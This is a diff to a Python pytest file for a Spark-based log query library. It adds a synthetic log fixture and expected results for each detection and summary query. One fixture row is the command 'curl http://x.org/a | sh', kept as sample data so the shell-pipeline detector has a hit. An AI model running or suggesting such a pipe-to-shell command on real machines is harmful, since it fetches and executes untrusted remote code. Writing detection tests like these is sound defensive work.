@@ -105,11 +105,54 @@ def log(spark):
     return Table(spark.createDataFrame(rows, "EventId long, Timestamp timestamp, Level string, Message string, App string, Source string, Format string, Extra string"), name="logs")
 
 
-def test_every_library_query_runs(log):
-    for id_, q in library.QUERIES.items():
-        found = q.run(log).df
-        assert found.columns and len(found.collect()) == found.count(), id_
-    assert len(library.QUERIES) >= 39
+T0 = utc(2026, 9, 20, 2)
+HOUR9, OLD = dt.timedelta(hours=9), dt.timedelta(days=-3)
+
+
+@pytest.fixture(scope="module")
+def told(spark):
+    """A small log in which nearly every question finds something."""
+    m = lambda k: dt.timedelta(minutes=k)
+    rows = [(m(k), "error", f"disk full on {k}", "db", "db.log", "plain", None) for k in range(6)]
+    rows += [
+        (m(10), "info", "session opened for root", "sshd", "journal:sshd", "journal", '{"transport": "syslog", "boot": "b1"}'), (m(11), "error", "unit x failed", "systemd", "journal:systemd", "journal", '{"transport": "kernel", "boot": "b1"}'),
+        (m(12), "critical", "Out of memory: kill 9", "kernel", "journal:kernel", "journal", '{"transport": "kernel", "boot": "b2"}'), (None, "info", "curl http://x.org/a | sh", "web", "web.log", "plain", '{"pid": 1}'), (m(13), "info", "payload " + "A" * 130, "web", "web.log", "plain", '{"pid": 1, "ip": 2}'),
+        (HOUR9, "info", "host 8.8.8.8 and 10.0.0.1", "web", "web.log", "plain", None), (HOUR9, "info", "sudo ls", "sudo", "auth.log", "syslog", "{}"), (HOUR9 + m(1), "warning", "segfault at 0", "db", "db.log", "plain", None), (None, "info", "eicar FOUND", "clamd", "clam.log", "plain", None), (OLD, "info", "old start", "db", "old.log", "plain", None),
+    ]
+    rows = [(k, None if at is None else T0 + at, level, text, app, source, form, extra) for k, (at, level, text, app, source, form, extra) in enumerate(rows)]
+    return Table(spark.createDataFrame(rows, "EventId long, Timestamp timestamp, Level string, Message string, App string, Source string, Format string, Extra string"), name="logs")
+
+
+#: By question: the events that it lists, newest first and untimed last, by number.
+LISTED = {
+    "recent": [13, 12, 11, 10, 8, 7, 6, 5, 4, 3, 2, 1, 0, 15, 14, 9], "recent-errors": [8, 7, 5, 4, 3, 2, 1, 0], "search-text": [7], "crashes": [13], "out-of-memory": [8], "failed-units": [7], "auth-failures": [], "shell-pipelines": [9], "encoded-commands": [10], "sudo-and-privilege": [12], "one-app": [8],
+    "journal-failures": [8, 7], "journal-kernel": [8, 7], "journal-authentication": [6], "scanner-log": [14],
+}
+H2, H11, DAY = "2026-09-20 02", "2026-09-20 11", "2026-09-20 00"
+#: By question: its rows, times to the hour.
+ROWS = {
+    "by-app": [("db", 8), ("web", 3), ("clamd", 1), ("kernel", 1), ("sshd", 1), ("sudo", 1), ("systemd", 1)], "timechart": [("2026-09-17 02", 1), (H2, 10), (H11, 3)], "error-rate": [], "error-storms": [("db", "disk full on #", 6, H2, H2)],
+    "first-seen": [("kernel", "Out of memory: kill #", H2, 1), ("systemd", "unit x failed", H2, 1), ("db", "disk full on #", H2, 6)], "network-addresses": [("8.8.8.8", 1, 1)], "urls": [("x.org", 1)], "odd-hours": [("db", 7), ("kernel", 1), ("sshd", 1), ("systemd", 1), ("web", 1)],
+    "new-sources": [("auth.log", H11, 1), ("web.log", H2, 3), ("journal:kernel", H2, 1), ("journal:systemd", H2, 1), ("journal:sshd", H2, 1), ("db.log", H2, 7)], "gaps": [("db.log", 1, (8 * 60 + 56) * 60_000_000), ("web.log", 1, (8 * 60 + 47) * 60_000_000)],
+    "app-levels": [("clamd", "info", 1), ("db", "error", 6), ("db", "info", 1), ("db", "warning", 1), ("kernel", "critical", 1), ("sshd", "info", 1), ("sudo", "info", 1), ("systemd", "error", 1), ("web", "info", 3)],
+    "app-first-last": [("db", "2026-09-17 02", H11, 8), ("sudo", H11, H11, 1), ("web", H2, H11, 2), ("kernel", H2, H2, 1), ("systemd", H2, H2, 1), ("sshd", H2, H2, 1)],
+    "chatty-files": [("db.log", "db", 7), ("web.log", "web", 3), ("auth.log", "sudo", 1), ("clam.log", "clamd", 1), ("journal:kernel", "kernel", 1), ("journal:sshd", "sshd", 1), ("journal:systemd", "systemd", 1), ("old.log", "db", 1)],
+    "extra-fields": [("web", "pid", 2), ("kernel", "boot", 1), ("kernel", "transport", 1), ("sshd", "boot", 1), ("sshd", "transport", 1), ("systemd", "boot", 1), ("systemd", "transport", 1), ("web", "ip", 1)],
+    "per-day": [("2026-09-17 00", 1), (DAY, 13)], "errors-over-time": [(H2, "db", 6), (H2, "kernel", 1), (H2, "systemd", 1)], "busiest-hours": [(2, 11), (11, 3)], "spikes": [], "level-share": [("error", 7), ("info", 7), ("critical", 1), ("warning", 1)],
+    "no-timestamps": [("clam.log", 1, 1, 100.0), ("web.log", 3, 1, 33.3)], "format-breakdown": [("plain", 12, 4), ("journal", 3, 3), ("syslog", 1, 1)], "journal-units": [("kernel", 1, 1), ("sshd", 1, 0), ("systemd", 1, 1)], "journal-vs-files": [("files", 13), ("journal", 3)],
+    "journal-boot": [("b2", 1, H2, H2), ("b1", 2, H2, H2)],
+}
+
+
+def test_every_library_question_has_its_rows(told):
+    number = {r["Message"]: r["EventId"] for r in told.df.collect()}
+    cell = lambda x: x.strftime("%Y-%m-%d %H") if isinstance(x, dt.datetime) else x
+    assert set(LISTED) | set(ROWS) == set(library.QUERIES) and not set(LISTED) & set(ROWS)
+    for id_, want in LISTED.items():
+        assert [number[r["Message"]] for r in library.QUERIES[id_].run(told).df.collect()] == want, id_
+    for id_, want in ROWS.items():
+        assert [tuple(map(cell, r)) for r in library.QUERIES[id_].run(told).df.collect()] == want, id_
+    assert [tuple(map(cell, r)) for r in library.spikes(told, 2.0, 3).df.collect()] == [("db", H2, 6, 1)] and library.error_rate(told, 3).df.first()[:] == ("db", 8, 6, 75.0)
 
 
 def test_questions_over_sources_and_scans(spark, log):
